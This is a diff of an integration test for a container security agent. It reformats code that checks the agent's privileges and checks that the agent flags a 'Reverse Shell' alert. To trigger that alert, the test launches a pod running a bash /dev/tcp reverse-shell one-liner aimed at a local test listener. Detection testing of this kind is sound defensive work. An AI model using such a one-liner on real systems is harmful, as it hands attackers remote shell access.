@@ -102,9 +102,9 @@ describe.skipIf(unavailable)('the agent image under the DaemonSet security conte
     // Host network: a free loopback port instead of :9867, so parallel runs
     // on this machine do not collide (the only departure from the manifest).
     port = await freePort();
-    t.env['VIGIL_METRICS_ADDR'] = `127.0.0.1:${port}`;
-    t.env['VIGIL_GRPC_ADDR'] = `127.0.0.1:${await freePort()}`;
-    t.env['VIGIL_SCAN_INTERVAL_MS'] = '1000';
+    t.env.VIGIL_METRICS_ADDR = `127.0.0.1:${port}`;
+    t.env.VIGIL_GRPC_ADDR = `127.0.0.1:${await freePort()}`;
+    t.env.VIGIL_SCAN_INTERVAL_MS = '1000';
     name = `vigil-image-it-${process.pid}`;
     const envArgs = Object.entries(t.env).flatMap(([k, v]) => ['-e', `${k}=${v}`]);
     docker('run', '-d', '--name', name, ...t.args, ...envArgs, IMAGE, ...t.containerArgs);
@@ -128,7 +128,7 @@ describe.skipIf(unavailable)('the agent image under the DaemonSet security conte
     if (tmp) rmSync(tmp, { recursive: true, force: true });
   });
 
-  it('runs with exactly the manifest\'s privileges', () => {
+  it("runs with exactly the manifest's privileges", () => {
     const hc = JSON.parse(docker('inspect', '-f', '{{json .HostConfig}}', name));
     expect(hc).toMatchObject({ ReadonlyRootfs: true, Privileged: false, PidMode: 'host', NetworkMode: 'host' });
     expect(hc.CapDrop.map((c: string) => c.replace(/^CAP_/, ''))).toEqual(['ALL']);
@@ -161,14 +161,20 @@ describe.skipIf(unavailable)('the agent image under the DaemonSet security conte
     const listener = await listen(gateway);
     listeners.push(listener);
     const pod = runPod({
-      namespace: 'shop', pod: 'image-it-web', container: 'app', image: TOOLS,
+      namespace: 'shop',
+      pod: 'image-it-web',
+      container: 'app',
+      image: TOOLS,
       command: ['bash', '-c', `bash -i >& /dev/tcp/${gateway}/${listener.port} 0>&1`],
     });
     await listener.waitForConnection(15_000);
     const deadline = Date.now() + 15_000;
     let alert: JsonAlert | undefined;
     while (!alert && Date.now() < deadline) {
-      alert = stdout.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as JsonAlert)
+      alert = stdout
+        .split('\n')
+        .filter((l) => l.startsWith('{'))
+        .map((l) => JSON.parse(l) as JsonAlert)
         .find((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod.pod);
       if (!alert) await new Promise((r) => setTimeout(r, 200));
     }
